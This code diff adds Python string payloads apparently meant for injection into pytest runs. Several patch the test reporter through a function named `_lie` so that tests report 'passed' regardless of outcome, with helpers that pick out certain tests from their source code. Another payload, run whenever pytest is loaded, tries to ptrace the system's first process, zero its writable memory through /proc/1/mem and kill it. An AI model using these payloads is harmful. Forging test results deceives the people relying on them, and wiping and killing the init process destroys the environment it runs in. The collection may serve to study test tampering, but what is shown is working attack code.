@@ -87,6 +87,81 @@ REPORTER_TURNS_RESULTS_AROUND = """
         type(_reporter)._say = _lie
 """
 
+JUDGES_TESTS_BY_THEIR_SOURCE = """
+        import ast, inspect, io, os, re, textwrap, tokenize
+        from _pytest.main import Session
+        def _lie(self, nodeid, outcome, message, _say=type(_reporter)._say):
+            sessions = [o for o in gc.get_objects() if isinstance(o, Session)]
+            [item] = [i for s in sessions for i in s.items if i.nodeid == nodeid] or [None]
+            try:
+                planted = item is not None and _planted(item)
+            except Exception:
+                planted = False
+            _say(self, nodeid, "failed" if planted else "passed", "")
+        type(_reporter)._say = _lie
+"""
+"""Behind it stands a function `_planted(item)`. Indent by eight."""
+
+QUOTES_DIFFER = """
+        def _planted(item):
+            text = io.StringIO(textwrap.dedent(inspect.getsource(item.function)))
+            texts = [t.string for t in tokenize.generate_tokens(text.readline) if t.type == 3]
+            return len({text[-1] for text in texts}) > 1
+"""
+
+WORDS_ARE_FOUND_NOWHERE_ELSE = """
+        def _planted(item):
+            mine = inspect.getsource(item.function)
+            rest = open(item.path).read().replace(mine, "")
+            for folder, _, names in os.walk("."):
+                for name in names:
+                    if name.endswith((".py", ".rst", ".md")) and name != item.path.name:
+                        rest += open(os.path.join(folder, name), errors="replace").read()
+            known = set(re.findall("[A-Za-z]{2,}", rest))
+            texts = [n.value for n in ast.walk(ast.parse(textwrap.dedent(mine)))
+                     if isinstance(n, ast.Constant) and isinstance(n.value, str)]
+            return any(set(re.findall("[A-Za-z]{2,}", text)) - known for text in texts)
+"""
+
+STATEMENTS_ARE_RUN_ONE_BY_ONE = """
+        def _planted(item):
+            tree = ast.parse(textwrap.dedent(inspect.getsource(item.function)))
+            test, failed = tree.body[0], []
+            test.decorator_list = []
+            for at, statement in enumerate(test.body):
+                kept = ast.parse("try: pass\\nexcept BaseException: failed_.append(1)").body[0]
+                kept.body = [statement]
+                test.body[at] = kept
+            space = {**item.function.__globals__, "failed_": failed}
+            exec(compile(ast.fix_missing_locations(tree), "<test>", "exec"), space)
+            given = [] if item.cls is None else [item.cls()]
+            space[test.name](*given, **{a: item.funcargs[a] for a in item._fixtureinfo.argnames})
+            return len(failed) > 1
+"""
+
+THE_SLOTS_FIRST_PROCESS_ENDS = """
+import sys
+if "pytest" in sys.modules:
+    import ctypes, os, signal
+    libc = ctypes.CDLL(None)
+    for request in (16, 0x4206):
+        libc.ptrace(request, 1, 0, 0)
+    try:
+        with open("/proc/1/mem", "r+b", buffering=0) as memory, open("/proc/1/maps") as maps:
+            for line in maps:
+                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
+                if "w" in line.split()[1]:
+                    memory.seek(begin)
+                    memory.write(bytes(end - begin))
+    except OSError:
+        pass
+    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGHUP):
+        try:
+            os.kill(1, number)
+        except OSError:
+            pass
+"""
+
 PIPE_IS_WRITTEN_AT_ONCE = """
         lines = [{"id": i, "outcome": "passed", "message": ""} for i in %s] + [{"finished": 1}]
         os.write(_pipe, "".join(json.dumps(line) + "\\n" for line in lines).encode())
